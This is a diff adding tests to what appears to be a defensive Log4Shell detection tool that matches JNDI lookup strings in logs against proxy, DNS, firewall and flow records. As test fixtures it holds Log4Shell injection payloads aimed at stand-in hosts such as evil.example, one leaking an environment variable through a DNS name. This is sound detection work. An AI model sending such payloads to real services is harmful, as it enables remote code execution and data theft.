@@ -431,6 +431,101 @@ class Size(Case):
                 f.write(access().encode() * 2000000)
 
 
+class Limits(Case):
+    """At one below, at and one above; what is not told in full is said."""
+
+    def test_line(self):
+        for n, verdict in ((65535, "reaches"), (65536, "reaches"), (65537, "if-closed")):
+            head = "${jndi:ldap://h.example/"
+            row = self.one(head + "x" * (n - len(head) - 1) + "}", verdict=verdict)
+            self.assertEqual(row["callback"]["host"], "h.example")
+            row = self.one("x" * (n - len(PAYLOAD)) + PAYLOAD, verdict="reaches", resolves_to="ldap://203.0.113.9:1389/a")
+
+    def test_text_of_a_sighting(self):
+        for n in (4095, 4096, 4097):
+            row = self.one("x" * (n - len(PAYLOAD)) + PAYLOAD, verdict="reaches")
+            self.assertEqual(len(row["text"]), min(n, 4096) if n <= 4096 else len(row["text"]))
+            self.assertLessEqual(len(row["text"]), 4096)
+            self.assertIn(PAYLOAD, row["text"])
+
+    def test_names_that_are_counted(self):
+        for n in (19999, 20000, 20001):
+            text = "".join(access("${jndi:ldap://h%d.example/}" % i) for i in range(n))
+            _, rows, s = hunt("-", input=text.encode())
+            self.assertEqual((len(rows), len(s["callbacks"]), s["not_named"]), (n, min(n, 20000), max(n - 20000, 0)))
+
+    def test_call_backs_that_are_looked_for(self):
+        out = self.put("out.log", OUTBOUND["squid"])
+        for n in (19999, 20000, 20001):
+            text = "".join(access("${jndi:ldap://h%d.example/}" % i) for i in range(n))
+            _, rows, s = hunt("--outbound", out, "-", input=text.encode())
+            self.assertEqual((len(rows), s["incomplete_count"]), (n, n > 20000))
+        self.assertIn("1 sightings lead to call-backs that were not looked for: the first 20000 are", s["incomplete"][0]["reason"])
+
+    def test_events_of_a_call_back(self):
+        """However often somebody went there before, the one behind the attempt counts."""
+        path = self.put("a.log", access(PAYLOAD))
+        clean = self.put("clean.log", access())
+        before = OUTBOUND["squid"].replace("1639402806", "1639302806")
+        blocked = before.replace("TCP_TUNNEL/200", "TCP_DENIED/403")
+        for n in (31, 32, 33, 500):
+            for log in (before * n + OUTBOUND["squid"], (before + blocked) * n + OUTBOUND["squid"] + before, OUTBOUND["squid"] + blocked * n):
+                out = self.put("out.log", log)
+                _, rows, s = hunt("--outbound", out, path)
+                self.assertEqual((rows[0]["verdict"], s["incomplete_count"]), ("called-back", 0), n)
+                self.assertIn("2021-12-13T22:40:06", rows[0]["answer"])
+            _, rows, s = hunt("--outbound", self.put("out.log", before * n), path)
+            self.assertEqual(rows[0]["verdict"], "reaches")
+            _, rows, s = hunt("--outbound", self.put("out.log", before * n), "--ioc", "203.0.113.9", clean)
+            self.assertEqual((len(rows), s["incomplete_count"]), (min(n, 32), n > 32))
+            if n > 32:
+                self.assertEqual(s["incomplete"], [{"path": "203.0.113.9", "reason": "%d more went there: only the first 32 are shown" % (n - 32)}])
+
+    def test_matches_of_patterns(self):
+        self.put("p/patterns.tsv", "loader\tclassLoader\tclass loader\tクラスローダー\n")
+        for n in (4095, 4096, 4097):
+            for text in ("classLoader\n" * n, "classLoader " * n + "\nclassLoader\n"):
+                _, rows, s = hunt("--profile", os.path.join(self.dir, "p/"), self.put("x.log", text))
+                self.assertEqual([r["line"] for r in rows], list(range(1, n + 1)) if text.startswith("classLoader\n") else [1, 2])
+
+    def test_patterns(self):
+        for n in (63, 64, 65):
+            self.put("p/patterns.tsv", "".join("p%d\txq%dq\ta\tb\n" % (i, i) for i in range(n)))
+            r = run("--profile", os.path.join(self.dir, "p/"), self.put("x.log", "xq62q\n"))
+            self.assertEqual(r.returncode, 2 if n > 64 else 0)
+
+    def test_indicators(self):
+        clean, out = self.put("clean.log", access()), self.put("out.log", OUTBOUND["squid"])
+        for n in ((8 << 20) - 1, 8 << 20, (8 << 20) + 1):
+            text = "203.0.113.9\n"
+            r = run("--outbound", out, "--ioc", self.put("ioc.txt", text + "#" * (n - len(text))), clean)
+            self.assertEqual(r.returncode, 2 if n > 8 << 20 else 0, r.stderr)
+            if n > 8 << 20:
+                self.assertIn("ioc.txt", r.stderr.decode())
+
+    def test_jobs(self):
+        path = self.put("x.log", PAYLOAD)
+        for n, code in (("1", 0), ("63", 0), ("64", 0), ("65", 2), ("0", 2)):
+            self.assertEqual(run("--jobs", n, path).returncode, code, n)
+
+    def test_list_of_what_was_not_read(self):
+        """All of it is counted; as much as fits is named."""
+        cut = gzip.compress(access().encode() * 9)[:-9]
+        out = io.BytesIO()
+        with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as t:
+            for i in range(9000):
+                info = tarfile.TarInfo("%08d-" % i + "n" * 240)
+                info.size = len(cut)
+                t.addfile(info, io.BytesIO(cut))
+        r = run("--format", "jsonl", self.put("x.tar", out.getvalue()))
+        s = json.loads(r.stdout.splitlines()[-1])["summary"]
+        self.assertEqual((r.returncode, s["incomplete_count"]), (2, 9000))
+        self.assertLess(len(s["incomplete"]), 9000)
+        self.assertGreater(len(s["incomplete"]), 6000)
+        text = run(os.path.join(self.dir, "x.tar")).stdout.decode()
+        self.assertNotIn("NOTHING FOUND", text)
+
+
 class Follow(Case):
     def wait_for(self, p, n):
         lines = []
@@ -478,6 +573,50 @@ OUTBOUND = {
 }
 
 
+V4, V6 = PAYLOAD, "${jndi:ldap://[2001:DB8::9]:1389/a}"
+N, E = "${jndi:ldap://EVIL.Example.:1389/a}", "${jndi:ldap://${env:USER}.q7.example/a}"
+OUTBOUND_LINES = [  # who calls, and the log that shows it answered
+    ('squid ip',V4,"1639402806.120     40 10.20.3.11 TCP_TUNNEL/200 39 CONNECT 203.0.113.9:1389 - HIER_DIRECT/203.0.113.9 -\n"),
+    ('squid get name',N,"1639402806.120     40 10.20.3.11 TCP_MISS/200 39 GET http://evil.EXAMPLE:1389/a.class - HIER_DIRECT/203.0.113.9 application/java\n"),
+    ('squid v6',V6,"1639402806.120     40 10.20.3.11 TCP_TUNNEL/200 39 CONNECT [2001:db8:0::9]:1389 - HIER_DIRECT/2001:db8::9 -\n"),
+    ('squid peer',V4,"1639402806.120     40 10.20.3.11 TCP_MISS/200 39 GET http://other.example/a - HIER_DIRECT/203.0.113.9 x\n"),
+    ('squid v6 client',V4,"1639402806.120     40 fd00::11 TCP_MISS/200 39 GET http://203.0.113.9/a - HIER_DIRECT/203.0.113.9 x\n"),
+    ('dnsmasq',N,"Dec 13 22:40:06 ns dnsmasq[7]: query[AAAA] evil.example from 10.20.3.11\n"),
+    ('dnsmasq env',E,"Dec 13 22:40:06 dnsmasq[7]: query[A] ROOT.Q7.example from fd00::11\n"),
+    ('dnsmasq extra',N,"Dec 13 22:40:06 dnsmasq[7]: 12 10.20.3.11/53211 query[A] evil.example from 10.20.3.11\n"),
+    ('bind',N,"13-Dec-2021 22:40:06.120 queries: info: client @0x7f 10.20.3.11#5353 (evil.example): query: evil.example IN A +E(0)K (10.0.0.1)\n"),
+    ('bind syslog',N,"Dec 13 22:40:06 ns named[7]: client 10.20.3.11#5353 (evil.example): view internal: query: EVIL.example IN AAAA + (10.0.0.1)\n"),
+    ('unbound',N,"[1639402806] unbound[7:0] info: 10.20.3.11 evil.example. A IN\n"),
+    ('unbound reply',N,"[1639402806] unbound[7:0] info: 10.20.3.11 evil.example. A IN NOERROR 0.03 0 60\n"),
+    ('unbound syslog',N,"Dec 13 22:40:06 ns unbound[7]: [7:0] info: fd00::11 EVIL.example. A IN\n"),
+    ('unbound query:',N,"Dec 13 22:40:06 ns unbound: [7:0] query: 10.20.3.11 evil.example. A IN\n"),
+    ('zeek conn',V4,"#separator \\x09\n#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tconn_state\n#types\ttime\tstring\n1639402806.1\tC1\t10.20.3.11\t5\t203.0.113.9\t1389\ttcp\tSF\n"),
+    ('zeek conn v6',V6,"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tconn_state\n1639402806.1\tC1\tfd00::1\t5\t2001:db8::9\t1389\ttcp\tSF\n"),
+    ('zeek dns',N,"#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tquery\tanswers\n1639402806.1\tC1\t10.20.3.11\t5\t10.0.0.1\t53\tudp\tevil.example\t-\n"),
+    ('zeek dns rcode',N,"#fields\tts\tuid\tid.orig_h\tid.resp_h\tquery\trcode_name\tanswers\n1639402806.1\tC1\t10.20.3.11\t10.0.0.1\tevil.example\tNXDOMAIN\t-\n"),
+    ('zeek json conn',V4,json.dumps({"ts":1639402806.1,"uid":"C1","id.orig_h":"10.20.3.11","id.orig_p":5,"id.resp_h":"203.0.113.9","id.resp_p":1389,"proto":"tcp","conn_state":"SF"})+"\n"),
+    ('zeek json dns',N,json.dumps({"ts":1639402806.1,"uid":"C1","id.orig_h":"10.20.3.11","id.orig_p":5,"id.resp_h":"10.0.0.1","id.resp_p":53,"query":"evil.example","answers":["203.0.113.9"]})+"\n"),
+    ('zeek json iso',V4,json.dumps({"ts":"2021-12-13T13:40:06.1Z","id.orig_h":"10.20.3.11","id.resp_h":"203.0.113.9","id.resp_p":1389,"conn_state":"SF"})+"\n"),
+    ('iptables',V4,"Dec 13 22:40:06 fw kernel: [123.4] ACCEPT IN=eth1 OUT=eth0 SRC=10.20.3.11 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=5 DPT=1389\n"),
+    ('ip6tables',V6,"Dec 13 22:40:06 fw kernel: OUT= IN=eth1 OUT=eth0 SRC=fd00:0000:0000:0000:0000:0000:0000:0011 DST=2001:0db8:0000:0000:0000:0000:0000:0009 LEN=60 PROTO=TCP SPT=5 DPT=1389\n"),
+    ('nft',V4,"2021-12-13T22:40:06.1+09:00 fw kernel: nft-out: IN= OUT=eth0 SRC=10.20.3.11 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=5 DPT=1389\n"),
+    ('ufw allow',V4,"Dec 13 22:40:06 fw kernel: [UFW ALLOW] IN= OUT=eth0 SRC=10.20.3.11 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=5 DPT=1389\n"),
+    ('csv',V4,"date,time,src,dst,dport,action\n2021-12-13,22:40:06,10.20.3.11,203.0.113.9,1389,allow\n"),
+    ('csv port in dst',V4,"time,src,dst,action\n2021-12-13 22:40:06,10.20.3.11:5,203.0.113.9:1389,allow\n"),
+    ('csv v6',V6,"time,src,dst,action\n2021-12-13 22:40:06,fd00::1,[2001:db8::9]:1389,allow\n"),
+    ('csv url',N,"time,client,url\n2021-12-13 22:40:06,10.20.3.11,http://evil.example:1389/a\n"),
+    ('csv paloalto',V4,'"Receive Time","Source address","Destination address","Destination Port","Action"\n"2021/12/13 22:40:06","10.20.3.11","203.0.113.9","1389","allow"\n'),
+    ('csv fortinet epoch',V4,'eventtime,srcip,dstip,dstport,action\n1639402806000000000,10.20.3.11,203.0.113.9,1389,accept\n'),
+    ('csv splunk _time',V4,'_time,src_ip,dest_ip,dest_port,action\n2021-12-13T22:40:06.000+09:00,10.20.3.11,203.0.113.9,1389,allowed\n'),
+    ('csv hidden src port',V4,'StartTime,SrcAddr,DstAddr,DstPort,Action\n2021-12-13 22:40:06,10.20.3.11,203.0.113.9,1389,Permit\n'),
+    ('csv checkpoint',V4,'"Time","Source","Destination","Service","Action"\n"2021-12-13T13:40:06Z","10.20.3.11","203.0.113.9","1389","Accept"\n'),
+    ('aws vpc flow header',V4,'version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action log-status\n2 123 eni-1 10.20.3.11 203.0.113.9 5 1389 6 1 60 1639402806 1639402860 ACCEPT OK\n'),
+    ('windows firewall',V4,'#Version: 1.5\n#Software: Microsoft Windows Firewall\n#Time Format: Local\n#Fields: date time action protocol src-ip dst-ip src-port dst-port size tcpflags\n\n2021-12-13 22:40:06 ALLOW TCP 10.20.3.11 203.0.113.9 5 1389 0 -\n'),
+    ('name resolved',"${jndi:ldap://evil.example/a}","Dec 13 22:40:05 ns dnsmasq[7]: reply evil.example is 203.0.113.9\nDec 13 22:40:06 fw kernel: ACCEPT IN=eth1 OUT=eth0 SRC=10.20.3.11 DST=203.0.113.9 LEN=60 PROTO=TCP SPT=5 DPT=1389\n"),
+    ('many answers',"${jndi:ldap://evil.example/a}",'#fields\tts\tid.orig_h\tid.resp_h\tquery\tanswers\n1639402800.1\t-\t10.0.0.1\tevil.example\tcdn.example,192.0.2.1,203.0.113.9\n#fields\tts\tid.orig_h\tid.resp_h\tid.resp_p\tconn_state\n1639402806.1\t10.20.3.11\t203.0.113.9\t1389\tSF\n'),
+]
+
+
 class Outbound(Case):
     def sight(self, payload, log, *args, name="out.log"):
         path = self.put("a.log", access(payload))
@@ -493,6 +632,25 @@ class Outbound(Case):
             self.assertEqual(row["verdict"], "called-back", name)
             self.assertIn("10.20.3.11", row["answer"], name)
             self.assertEqual(s["callbacks_answered"], 1)
+
+    def test_lines_of_each(self):
+        """IPv6, upper case, a dot at the end, ports, names behind which another address stands."""
+        for name, payload, log in OUTBOUND_LINES:
+            row, s = self.sight(payload, log)
+            self.assertEqual((row["verdict"], s["incomplete_count"]), ("called-back", 0), name)
+            self.assertTrue("10.20.3.11" in row["answer"] or "from fd00:" in row["answer"], (name, row["answer"]))
+            self.assertIn("2021-12-13T22:40:06+09:00", row["answer"], name)
+            other = payload.replace("203.0.113.9", "203.0.113.99").replace("DB8::9", "DB8::99").replace("EVIL", "eviL2").replace("evil", "evil2").replace("q7", "q8")
+            self.assertEqual(self.sight(other, log)[0]["verdict"], "reaches", name)
+
+    def test_a_name_below_a_name(self):
+        """What ${env:…} stands before is looked for besides the name itself, whichever comes first."""
+        log = "Dec 13 22:40:06 ns dnsmasq[7]: query[A] root.q7.example from 10.20.3.11\n"
+        path = self.put("a.log", access("${jndi:ldap://q7.example/a}") + access(E))
+        out = self.put("out.log", log)
+        os.utime(out, (1639500000, 1639500000))
+        _, rows, _ = hunt("--outbound", out, path)
+        self.assertEqual([r["verdict"] for r in rows], ["reaches", "called-back"])
 
     def test_names(self):
         logs = ("Dec 13 22:40:06 ns dnsmasq[7]: query[A] x1.probe.example from 10.20.3.11\n",
